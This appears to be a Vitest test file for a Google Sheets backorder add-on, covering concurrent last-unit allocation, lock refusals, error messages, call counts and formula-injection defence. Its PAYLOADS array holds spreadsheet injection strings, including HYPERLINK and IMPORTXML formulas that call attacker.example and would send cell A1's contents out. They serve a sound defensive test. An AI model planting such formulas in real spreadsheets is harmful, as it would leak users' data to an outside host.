/**
 * The add-on under pressure, through the built Code.js in the twin: five reps allocate the last unit
 * of a SKU at once (each sidebar showed its own order line with 1 available): exactly one succeeds,
 * four are refused with the reason, stock never goes negative. Formula payloads typed into call notes,
 * customer names and PO notes are stored as text, never as formulas. Service calls per action are the
 * same on 100 order lines as on 2,000.
 */

import { describe, expect, it } from 'vitest';
import { INDEX_TAB } from '../../shared/io/index-tab';
import type { ActionReply, RowView } from '../../shared/sidebar/rpc';
import { lastUnitShop, openDesk, typeWorkedExample } from '../support/addon';

const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("http://attacker.example/?"&A1,"x")',
  '=IMPORTXML("http://attacker.example","//a")',
];

let n = 0;
const rid = () => `concurrency-${++n}`.padEnd(14, '0');

describe('add-on: concurrency, injection, call counts', () => {
  it('lets exactly one of five reps take the last unit', async () => {
    const desk = await lastUnitShop(['1', '2', '3', '4', '5']);
    // Every sidebar loaded its view before anyone clicked.
    const views = [2, 3, 4, 5, 6].map((row) => desk.run<RowView>('sidebarView', { sheet: 'Orders', row }));
    const outcomes = await Promise.allSettled(
      views.map(
        (v) =>
          new Promise<ActionReply>((resolve, reject) => {
            setTimeout(() => {
              try {
                resolve(
                  desk.run<ActionReply>(
                    'sidebarAction',
                    {
                      command: { action: 'allocate', orderId: v.ids.orderId, expected: v.expectedWithStock },
                      requestId: rid(),
                    },
                    v.ref,
                  ),
                );
              } catch (e) {
                reject(e);
              }
            }, 0);
          }),
      ),
    );
    const ok = outcomes.filter((o) => o.status === 'fulfilled');
    const refused = outcomes.filter((o): o is PromiseRejectedResult => o.status === 'rejected');
    expect(ok).toHaveLength(1);
    expect(refused).toHaveLength(4);
    for (const r of refused)
      expect(String(r.reason.message)).toMatch(
        /Inventory LAST-1#MAIN changed since you looked; reload and try again/,
      );
    const stock = desk.rows('Inventory')[0];
    expect(stock).toMatchObject({ OnHand: 1, Allocated: 1, Available: 0 });
  });

  it('names each bad cell of a refusal once', async () => {
    const desk = await openDesk();
    desk.run('menuSetUpWorkbook');
    typeWorkedExample(desk);
    desk.type('Orders', [{ OrderID: 'SO-9', Line: 1, OrderDate: '2026-11-20', SKU: 'CASE-1', Qty: 'lots' }]);
    let message = '';
    try {
      desk.run('sidebarAction', { command: { action: 'allocate' }, requestId: rid() }, null);
    } catch (e) {
      message = (e as Error).message;
    }
    const detail = /Orders!\w+\d+: Qty must be a whole number ≥ 0, got "lots"/g;
    expect(message.match(detail)?.length).toBe(1);
  });

  it('refuses an action while another holds the document lock, with the reason', async () => {
    const desk = await openDesk();
    desk.run('menuSetUpWorkbook');
    desk.rt.state.lockHolder = 'execution-elsewhere';
    expect(() =>
      desk.run('sidebarAction', { command: { action: 'allocate' }, requestId: rid() }, null),
    ).toThrow(/Another Backorder Desk action is running on this spreadsheet/);
  });

  it('stores formula payloads as text in call notes, customer names and PO notes', async () => {
    const desk = await openDesk();
    desk.run('menuSetUpWorkbook');
    desk.type('Inventory', [{ SKU: 'X-1', Warehouse: 'MAIN', OnHand: 0 }]);
    desk.type(
      'Orders',
      PAYLOADS.map((p, i) => ({
        OrderID: `SO-${i + 1}`,
        Line: 1,
        OrderDate: '2026-11-20',
        Customer: `'${p}`,
        SKU: 'X-1',
        Qty: 2,
        Warehouse: 'MAIN',
      })),
    );
    desk.type('POs', [
      { PO: 'PO-1', Line: 1, SKU: 'X-1', Qty: 10, Warehouse: 'MAIN', Notes: `'${PAYLOADS[4]}` },
    ]);
    desk.run('menuAllocateAll');
    PAYLOADS.forEach((payload, i) => {
      const row = i + 2;
      const view = desk.run<RowView>('sidebarView', { sheet: 'Backorders', row });
      expect(view.facts).toContainEqual(['Customer', payload]);
      desk.run(
        'sidebarAction',
        {
          command: {
            action: 'log-call',
            backorderId: view.ids.backorderId,
            method: 'Phone',
            summary: payload,
            expected: view.expected,
          },
          requestId: rid(),
        },
        view.ref,
      );
      desk.run(
        'sidebarAction',
        { command: { action: 'receive', po: 'PO-1', qty: 1 }, requestId: rid() },
        null,
      );
    });
    // Every formula is the engine's own: its formula columns (IF…) and the index tab's references.
    const formulas = desk.twin.file.sheets
      .filter((s) => s.properties.title !== INDEX_TAB)
      .flatMap((s) =>
        Object.entries(s.formulas)
          .filter(([, f]) => !/^=IF\(/.test(f))
          .map(([a1, f]) => `${s.properties.title}!${a1} ${f}`),
      );
    expect(formulas).toEqual([]);
    expect(desk.rows('Calls').map((c) => c.Summary)).toEqual(PAYLOADS);
    expect(desk.rows('Backorders').map((b) => b.Customer)).toEqual(PAYLOADS);
    expect(desk.rows('POs')[0]?.Notes).toBe(PAYLOADS[4]);
  });

  // A view reads its row, then by key its entity and its SKU's queue (shared/io/row-scope.ts): with the
  // viewed SKU's queue the same, its calls are the same at 100 and at 2,000 lines; allocate-all reads
  // whole tabs in the same calls at any size.
  it('makes the same service calls for an action on 100 and on 2,000 order lines', async () => {
    const counts: Record<string, number>[] = [];
    for (const lines of [100, 2000]) {
      const desk = await openDesk();
      desk.run('menuSetUpWorkbook');
      desk.type(
        'Inventory',
        // S-0 (the viewed line's) in stock; the others short, so Backorders has rows at both sizes.
        Array.from({ length: 50 }, (_, i) => ({
          SKU: `S-${i}`,
          Warehouse: 'MAIN',
          OnHand: i === 0 ? 40 : 0,
        })),
      );
      desk.type(
        'Orders',
        Array.from({ length: lines }, (_, i) => ({
          OrderID: `SO-${i}`,
          Line: 1,
          OrderDate: '2026-11-20',
          Customer: 'C',
          SKU: i < 2 ? 'S-0' : `S-${1 + (i % 49)}`,
          Qty: 3,
          Warehouse: 'MAIN',
        })),
      );
      desk.run('menuAllocateAll'); // fills the formula columns of the typed rows once
      desk.rt.counter.reset();
      desk.run('menuAllocateAll');
      desk.run('sidebarView', { sheet: 'Orders', row: 2 });
      counts.push({ ...desk.rt.counter.counts });
    }
    expect(counts[1]).toEqual(counts[0]);
    expect(counts[0]?.['Range.getValues']).toBeLessThanOrEqual(24);
  });

  it('writes no formulas once every row has them, a closed backorder showing "" included', async () => {
    const desk = await openDesk();
    desk.run('menuSetUpWorkbook');
    typeWorkedExample(desk);
    for (const command of [
      { action: 'allocate' },
      { action: 'ship', orderId: 'SO-1' },
      { action: 'receive', po: 'PO-1' },
      { action: 'fulfill', backorderId: 'BO-000001' },
    ])
      desk.run('sidebarAction', { command, requestId: rid() }, null);
    expect(desk.rows('Backorders')[0]).toMatchObject({ Status: 'Fulfilled', Age: '' });
    desk.rt.counter.reset();
    desk.run('menuAllocateAll');
    expect(desk.rt.counter.counts['Range.setFormulas'] ?? 0).toBe(0);
  });
});
